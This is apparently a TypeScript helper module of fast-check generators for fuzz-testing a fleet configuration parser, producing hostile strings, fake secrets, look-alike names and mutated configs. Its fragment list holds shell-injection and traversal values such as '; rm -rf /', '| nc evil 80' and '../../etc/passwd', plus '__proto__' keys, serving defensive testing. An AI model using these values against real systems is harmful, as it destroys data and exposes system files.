/**
 * @module fast-check arbitraries shared by the fuzz tests (`*.fuzz.test.ts`): hostile strings,
 * secrets, look-alike names, near-miss keys, and valid fleet configs to mutate.
 * Test-only: nothing outside the tests imports this.
 */
import fc from "fast-check";

/** Every property of the fuzz suites runs at least this many inputs. */
export const FUZZ_RUNS = 2_000;
/** The seed, fixed so a run is reproducible; override with FUZZ_SEED to explore further. */
export const FUZZ_SEED = Number(
  (globalThis as { process?: { env: Record<string, string | undefined> } }).process?.env.FUZZ_SEED ?? 20_260_702,
);

/** Options for fc.assert: the fixed seed (fast-check prints it, and the path, on failure). */
export function fuzz(numRuns = FUZZ_RUNS): fc.Parameters<unknown> {
  return { numRuns, seed: FUZZ_SEED, endOnFailure: false };
}

/** What an attacker puts in a parameter to reach a shell, a parent folder or a second line. */
export const HOSTILE_FRAGMENTS = [
  "; rm -rf /",
  "$(id)",
  "$" + "{IFS}",
  "`id`",
  "| nc evil 80",
  "&& reboot",
  "> /etc/passwd",
  "< /etc/shadow",
  "\nrm -rf /",
  "\r\n",
  "\0",
  "../",
  "../../etc/passwd",
  "/..",
  "-rf",
  "--help",
  " ",
  "\t",
  "'",
  '"',
  "\\",
  "*",
  "?",
  "~root",
  "#",
  "!!",
  "{a,b}",
  "[x]",
  "\u001b[31m",
  "\u007f",
  "\u2028",
  "\u00a0",
  "\ufeff",
  "ℕ",
  "я",
] as const;

/** Printable ASCII with the characters that mean something to a shell or to YAML. */
const PRINTABLE = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i));

/** A string that carries at least one hostile fragment, somewhere in otherwise plain text. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .tuple(
        fc.string({ unit: fc.constantFrom(..."abcz019-._"), maxLength: 8 }),
        fc.constantFrom(...HOSTILE_FRAGMENTS),
        fc.string({ unit: fc.constantFrom(...PRINTABLE), maxLength: 8 }),
      )
      .map(([a, b, c]) => a + b + c),
    weight: 10,
  },
  { arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS), weight: 4 },
  // Far over every length limit; rarer, as it is slow to parse.
  { arbitrary: fc.constantFrom("a".repeat(100_000), `${"a".repeat(70_000)}; rm -rf /`), weight: 1 },
);

/** Strings of any code units, graphemes, printable ASCII, and a few huge ones. */
export const anyString: fc.Arbitrary<string> = fc.oneof(
  fc.string(),
  fc.string({ unit: "binary" }),
  fc.string({ unit: "grapheme", maxLength: 50 }),
  fc.string({ unit: fc.constantFrom(...PRINTABLE) }),
  hostileString,
);

/**
 * A secret (API key, passphrase, key body): printable ASCII around a 16-character random core,
 * so finding the whole secret in a message is never a coincidence.
 */
export const secretArb: fc.Arbitrary<string> = fc
  .tuple(
    fc.string({ unit: fc.constantFrom(...PRINTABLE), maxLength: 8 }),
    fc.noBias(fc.stringMatching(/^[A-Za-z0-9]{16}$/)),
    fc.string({ unit: fc.constantFrom(...PRINTABLE), maxLength: 8 }),
  )
  .map(([a, core, b]) => `${a}${core}${b}`);

/** Look-alikes of a name: case, whitespace, unicode confusables, invisible characters, suffixes. */
export function lookalikes(name: string): string[] {
  const out = [
    name.toUpperCase(),
    name.toLowerCase(),
    name.charAt(0).toUpperCase() + name.slice(1),
    ` ${name}`,
    `${name} `,
    `\t${name}`,
    `${name}\n`,
    `${name}\0`,
    `\u200b${name}`,
    `${name}\u200d`,
    `\ufeff${name}`,
    `${name}.`,
    `${name}/`,
    `./${name}`,
    `${name}*`,
    `${name},${name}`,
    `${name}x`,
    name.slice(0, -1),
    name
      .replace(/v/g, "\u03bd")
      .replace(/m/g, "\u043c"), // Greek nu, Cyrillic em
    name.replace(/[a-z0-9]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)), // fullwidth
    name.replace(/1/g, "l").replace(/0/g, "o"),
    name.normalize("NFD"),
  ];
  return [...new Set(out)].filter((s) => s !== name);
}

/** Keys that differ from `key` by a little: one character changed, added or removed, case, affixes. */
export function nearMissKey(key: string): fc.Arbitrary<string> {
  const at = fc.nat({ max: Math.max(0, key.length) });
  const ch = fc.string({ unit: "binary", minLength: 1, maxLength: 1 });
  return fc
    .oneof(
      fc.tuple(at, ch).map(([i, c]) => key.slice(0, i) + c + key.slice(i + 1)),
      fc.tuple(at, ch).map(([i, c]) => key.slice(0, i) + c + key.slice(i)),
      at.map((i) => key.slice(0, i) + key.slice(i + 1)),
      at.map((i) => key.slice(0, i)),
      at.map((i) => key.slice(i)),
      fc.constantFrom(
        key.toUpperCase(),
        key.toLowerCase(),
        key.normalize("NFD"),
        key.normalize("NFKC"),
        `${key}\0`,
        `${key}\u200b`,
        `${key}${key}`,
        `${key}=`,
        key.split("").reverse().join(""),
      ),
    )
    .filter((k) => k !== key);
}

/** A config name: lower-case letters, digits and dashes, at most 10 characters. */
export const nameArb = fc.stringMatching(/^[a-z][a-z0-9-]{0,9}$/);
/** A SHA-256 hex digest, either case. */
export const sha256Arb = fc.stringMatching(/^[0-9a-fA-F]{64}$/);

export interface GeneratedConfig {
  /** The config as YAML or JSON would give it: plain objects, lists, strings and numbers. */
  raw: Record<string, unknown>;
  /** Every secret value in it (API keys, private key bodies, passphrases), for leak checks. */
  secrets: string[];
}

/** A valid config: unique names, resolvable references, one key per user, unique secrets. */
export const validConfigArb: fc.Arbitrary<GeneratedConfig> = fc
  .record({
    vmNames: fc.uniqueArray(nameArb, { minLength: 1, maxLength: 6 }),
    groupNames: fc.uniqueArray(nameArb, { maxLength: 4 }),
    userNames: fc.uniqueArray(nameArb, { maxLength: 4 }),
    agentNames: fc.option(fc.uniqueArray(nameArb, { minLength: 1, maxLength: 3 }), { nil: undefined }),
    secrets: fc.uniqueArray(secretArb, { minLength: 24, maxLength: 24 }),
    digests: fc.uniqueArray(sha256Arb, { minLength: 12, maxLength: 12, selector: (s) => s.toLowerCase() }),
    picks: fc.array(fc.nat(), { minLength: 64, maxLength: 64 }),
    ports: fc.array(fc.oneof(fc.integer({ min: 1, max: 65535 }), fc.constantFrom("22", " 2222 ")), {
      minLength: 6,
      maxLength: 6,
    }),
    withUsers: fc.boolean(),
  })
  .map((g) => {
    let p = 0;
    const pick = () => g.picks[p++ % g.picks.length] ?? 0;
    const secrets: string[] = [];
    let s = 0;
    const secret = () => {
      const value = g.secrets[s++] ?? `fallback-${s}`;
      secrets.push(value);
      return value;
    };
    let d = 0;
    const digest = () => g.digests[d++] ?? "0".repeat(64);
    const agents = g.agentNames;
    const vms = g.vmNames.map((name, i) => {
      const vm: Record<string, unknown> = { name, host: `10.0.0.${i + 1}`, user: pick() % 2 ? "root" : "ubuntu" };
      if (pick() % 2) vm.port = g.ports[i];
      const auth = pick() % 3;
      if (auth === 0) vm.key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret()}\n-----END OPENSSH PRIVATE KEY-----\n`;
      if (auth === 1) vm.key_path = `/keys/${name}`;
      if (auth !== 2 && pick() % 2) vm.passphrase = secret();
      if (pick() % 2) vm.host_key = "SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
      if (agents && pick() % 2) vm.agent = agents[pick() % agents.length];
      return vm;
    });
    const groups = g.groupNames.map((name) => ({
      name,
      vms: g.vmNames.filter(() => pick() % 2 === 0),
    }));
    const raw: Record<string, unknown> = { vms };
    if (groups.length || pick() % 2) raw.groups = groups;
    if (g.withUsers) {
      raw.users = g.userNames.map((name) => {
        const user: Record<string, unknown> = { name };
        if (pick() % 2) user.api_key = secret();
        else user.api_key_sha256 = digest();
        if (groups.length && pick() % 3) user.groups = g.groupNames.filter(() => pick() % 2 === 0);
        return user;
      });
    }
    if (agents) {
      raw.agents = agents.map((name) => ({
        name,
        token_sha256: pick() % 2 ? digest() : [digest(), digest()],
      }));
    }
    return { raw, secrets };
  });

/** One change to a config: an entry or field removed, replaced by junk, or an unknown key added. */
export interface Mutation {
  at: number;
  op: "delete" | "set" | "add";
  value: unknown;
  key: string;
}

const junk: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.anything({ maxDepth: 3 }), weight: 6 },
  { arbitrary: anyString, weight: 6 },
  {
    arbitrary: fc.constantFrom(null, true, 0, -1, 1e21, 65536, Number.NaN, [], {}, "", "  ", "22a", "0x16"),
    weight: 6,
  },
  {
    arbitrary: fc.nat({ max: 300 }).map((depth) => {
      let nested: unknown = "x";
      for (let i = 0; i < depth; i++) nested = i % 2 ? [nested] : { a: nested };
      return nested;
    }),
    weight: 2,
  },
  { arbitrary: fc.constant("x".repeat(50_000)), weight: 1 },
);

export const mutationArb: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(),
  op: fc.constantFrom("delete", "set", "add"),
  value: junk,
  key: fc.oneof(nameArb, fc.constantFrom("__proto__", "constructor", "api_key", "key", "vms", "name", "port")),
});

/** Every container (object or list) inside `value`, itself included. */
function containers(value: unknown, out: (Record<string, unknown> | unknown[])[] = []) {
  if (typeof value === "object" && value !== null) {
    out.push(value as Record<string, unknown>);
    for (const child of Object.values(value)) containers(child, out);
  }
  return out;
}

/** Applies mutations to a deep copy of `raw`; lists stay lists (YAML and JSON give them no other keys). */
export function mutate(raw: Record<string, unknown>, mutations: readonly Mutation[]): Record<string, unknown> {
  const copy = structuredClone(raw);
  for (const mutation of mutations) {
    // A copy of the value too: fast-check hands the same value to later runs while it shrinks.
    const m = { ...mutation, value: structuredClone(mutation.value) };
    const all = containers(copy);
    const target = all[m.at % all.length] as Record<string, unknown> | unknown[];
    if (Array.isArray(target)) {
      const i = m.at % (target.length || 1);
      if (m.op === "delete") target.splice(i, 1);
      else if (m.op === "add" || !target.length) target.push(m.value);
      else target[i] = m.value;
      continue;
    }
    const keys = Object.keys(target);
    const key = m.op === "add" || !keys.length ? m.key : (keys[m.at % keys.length] as string);
    if (m.op === "delete") delete target[key];
    else Object.defineProperty(target, key, { value: m.value, enumerable: true, writable: true, configurable: true });
  }
  return copy;
}
